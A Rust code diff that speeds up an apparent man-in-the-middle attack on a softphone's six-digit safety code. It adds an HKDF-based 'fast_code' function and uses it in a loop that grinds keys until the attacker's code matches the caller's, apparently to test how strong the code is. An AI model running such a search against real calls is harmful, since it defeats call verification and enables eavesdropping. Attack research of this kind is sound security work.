@@ -113,8 +113,11 @@ impl Attack {
             *m1_secret.diffie_hellman(&PublicKey::from(b)).as_bytes()
         );
         let m1_public = public.to_montgomery().to_bytes();
-        let callee_code_with_m1 =
-            safety_code(&shared.to_montgomery().to_bytes(), exchange, &m1_public, &b, &self.call_id).digits;
+        let m1_shared = shared.to_montgomery().to_bytes();
+        let callee_code_with_m1 = safety_code(&m1_shared, exchange, &m1_public, &b, &self.call_id).digits;
+        let fast = fast_code(&m1_shared, &self.m1_commit, &m1_public, &b, &self.call_id);
+        assert_eq!(format!("{fast:06}"), callee_code_with_m1, "the search computes codes as the phones do");
+        let target: u64 = caller_code.parse().unwrap();
         let started = Instant::now();
         let (mut tries, mut found) = (0u64, None);
         'search: while tries < GRIND_TRIES && started.elapsed() < GRIND_BUDGET {
@@ -129,8 +132,7 @@ impl Attack {
             let publics = EdwardsPoint::to_montgomery_batch(&publics);
             let shareds = EdwardsPoint::to_montgomery_batch(&shareds);
             for (p, s) in publics.iter().zip(&shareds) {
-                let code = safety_code(s.as_bytes(), exchange, p.as_bytes(), &b, &self.call_id);
-                if code.digits == caller_code {
+                if fast_code(s.as_bytes(), &self.m1_commit, p.as_bytes(), &b, &self.call_id) == target {
                     found = Some(tries);
                     break 'search;
                 }
@@ -143,6 +145,28 @@ impl Attack {
         };
         (Report { caller_code, callee_code_with_m1, tries, found }, reveal)
     }
+}
+
+/// The v1.2 code as `safety::safety_code` computes it (checked against it
+/// for the first key), with ring's HMAC: the search's inner loop.
+fn fast_code(
+    shared: &[u8; 32],
+    commit: &[u8; 32],
+    caller: &[u8; 32],
+    callee: &[u8; 32],
+    call_id: &str,
+) -> u64 {
+    struct Eight;
+    impl ring::hkdf::KeyType for Eight {
+        fn len(&self) -> usize {
+            8
+        }
+    }
+    let prk = ring::hkdf::Salt::new(ring::hkdf::HKDF_SHA256, &[]).extract(shared);
+    let info: [&[u8]; 5] = [b"softphone safety code v1.2", commit, caller, callee, call_id.as_bytes()];
+    let mut number = [0u8; 8];
+    prk.expand(&info, Eight).unwrap().fill(&mut number).unwrap();
+    u64::from_be_bytes(number) % 1_000_000
 }
 
 fn b64_field(v: &Value, field: &str) -> [u8; 32] {
